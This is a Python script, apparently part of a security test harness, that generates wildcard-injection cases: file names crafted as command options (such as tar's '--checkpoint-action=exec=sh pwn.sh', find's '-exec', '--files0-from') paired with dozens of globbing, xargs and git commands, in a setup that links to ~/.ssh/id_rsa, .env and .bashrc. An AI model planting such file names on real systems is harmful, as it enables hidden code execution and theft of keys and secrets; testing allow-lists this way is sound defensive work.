#!/usr/bin/env python3
# class 1: wildcard injection: names in a project directory that a glob,
# xargs, find, $(ls), git ls-files or a loop hands to an allowed program.
evil = {
 "pre": ["--pre=sh", "pwn.sh"], "prefix": ["--pre", "pwn"], "f-env": ["-f.env"], "files0": ["--files0-from=z"], "output": ["--output=x"],
 "ckpt": ["--checkpoint=1", "--checkpoint-action=exec=sh pwn.sh"], "exec": ["-exec", "sh", "pwn.sh", ";"], "ff": ["--files-from=z"],
 "i": ["-i"], "follow": ["--follow"], "L": ["-L"], "include": ["--include=.env"], "R": ["-R"], "rflag": ["-r"], "o": ["-o"],
 "plus": ["+!sh pwn.sh"], "plusG": ["+G"], "uniqout": ["zz"], "awkassign": ["RS=x", "FS=y"], "find-bang": ["!", "("],
 "jqargs": ["--args"], "rawfile": ["--rawfile", "k"], "sortout": ["-ozz"], "e": ["-e"], "dashonly": ["-"], "dashdash": ["--"],
 "hidden": ["--hidden"], "uu": ["-uu"], "at": ["@z"], "colon": ["h:z"], "eq": ["--exclude=*"],
}
lines = ["rg foo *", "rg foo -- *", "wc -l *", "grep -n x *", "grep -e x *", "sort *", "head *", "tail -n1 *", "cat *", "file *", "ls *", "du -sh *",
  "stat *", "diff *", "uniq *", "uniq a.txt *", "cut -c1 *", "nl *", "tac *", "md5sum *", "less *", "more *", "awk 1 *", "sed -n 1p *", "jq . *",
  "find * -maxdepth 0", "find . -name '*.txt'", "tree *", "comm *", "cmp *", "echo *", "printf '%s\\n' *", "realpath *", "readlink *",
  "ls | xargs wc -l", "ls | xargs grep x", "ls | xargs -n1 head", "find . -type f | xargs wc -l", "find . -print0 | xargs -0 wc -l",
  "git ls-files | xargs grep x", "git ls-files -z | xargs -0 wc -l", "wc -l $(ls)", "grep x $(ls)", "for f in *; do wc -l $f; done",
  "for f in *; do head -1 \"$f\"; done", "for f in $(ls); do cat $f; done", "ls -1 | while read f; do wc -l \"$f\"; done",
  "git grep x -- *", "git log --oneline -- *", "git diff --stat -- *", "git status -- *", "git ls-files -- *", "git blame *", "git diff --no-index *",
]
out = open("cands1.tsv", "w")
n = 0
for en, names in evil.items():
    mk = "; ".join("touch -- " + "'" + x.replace("'", "'\\''") + "'" for x in names)
    # the world: a subdirectory with a.txt, b.txt, pwn.sh, z (a link to ~/.ssh/id_rsa), k (a link to .env)
    setup = ("mkdir -p w && cd w && printf 'x\\nfoo\\n' > a.txt && printf 'foo\\n' > b.txt && cp ../pwn pwn.sh && cp ../pwn pwn "
             "&& printf '@H@/.ssh/id_rsa\\0' > z && printf '@H@/.ssh/id_rsa\\n' > k; " + mk + "; ln -s @H@/.bashrc zz 2>/dev/null; true")
    for l in lines:
        out.write(f"wild-{en}\tsetup:{setup} ;;; cd w && {l}\n"); n += 1
print(n)
